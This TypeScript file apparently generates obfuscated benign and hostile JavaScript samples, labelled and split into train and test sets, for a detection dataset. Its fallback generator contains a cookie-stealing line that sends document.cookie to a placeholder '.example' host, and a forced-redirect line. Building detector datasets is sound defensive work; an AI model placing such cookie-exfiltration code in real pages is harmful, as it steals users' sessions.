import { plainWidgets } from "../benign/benign-samples.js";
import { hostileSamples } from "../hostile/hostile-samples.js";
import { createRandom, type Random } from "../random.js";
import type { HostileSample, Split } from "../sample.js";
import { type Obfuscator, obfuscators } from "./obfuscators.js";

/** Longer than a submission may be: what became so long is left out. */
const maxOutput = 1_500_000;

export interface ObfuscatedOptions {
  /** Programs for each preset and split. */
  readonly variants: number;
  readonly splits?: readonly Split[];
  /** Leaves out the presets that take seconds for one program. */
  readonly quick?: boolean;
}

/** Every tool in every preset over programs of each split, harmless and hostile ones in turn. */
export async function* obfuscatedSamples({
  variants,
  splits = ["train", "test"],
  quick = false,
}: ObfuscatedOptions): AsyncGenerator<HostileSample> {
  for (const split of splits) {
    const programs = programsOf(split);
    for (const obfuscator of obfuscators) {
      if (quick && obfuscator.slow === true) continue;
      for (let variant = 0; variant < variants; variant += 1) {
        const technique = `${obfuscator.tool} ${obfuscator.preset}`;
        const name = `obfuscation/${technique}/${split}-${variant}`;
        const random = createRandom(name);
        const text = await obfuscateOne(obfuscator, programs, variant % 2 === 0, random);
        if (text !== undefined) yield { kind: "hostile", category: "obfuscation", tool: obfuscator.tool, technique, split, name, text };
      }
    }
  }
}

interface Programs {
  readonly benign: readonly string[];
  readonly hostile: readonly string[];
}

/** A program of one split is never in the other. */
function programsOf(split: Split): Programs {
  const isMine = (_: unknown, index: number): boolean => index % 2 === (split === "train" ? 0 : 1);
  return {
    benign: plainWidgets()
      .map(({ code }) => code)
      .filter(isMine),
    hostile: [...hostileSamples(1)].filter((sample) => sample.split === split).map(({ text }) => text),
  };
}

async function obfuscateOne(obfuscator: Obfuscator, programs: Programs, isHarmless: boolean, random: Random): Promise<string | undefined> {
  const pool = (isHarmless ? programs.benign : programs.hostile).filter((text) => text.length <= obfuscator.maxInput && text.length > 250);
  for (let attempt = 0; attempt < 3; attempt += 1) {
    const program = pool.length > 0 ? random.pick(pool) : shortProgram(random, obfuscator.maxInput);
    try {
      const text = await obfuscator.obfuscate(program, random);
      if (text.length <= maxOutput) return text;
    } catch {
      // Some tools do not know every syntax: another program then.
    }
  }
  return undefined;
}

function shortProgram(random: Random, length: number): string {
  const word = random.word();
  return random
    .pick([
      `document.title="${word}";gro.resize()`,
      `new Image().src="//${word}.example/?"+document.cookie`,
      `alert("${word} ${random.word()}")`,
      `gro.onReady(function(){gro.resize()})`,
      `top.location="//${word}.example/"`,
    ])
    .slice(0, length);
}
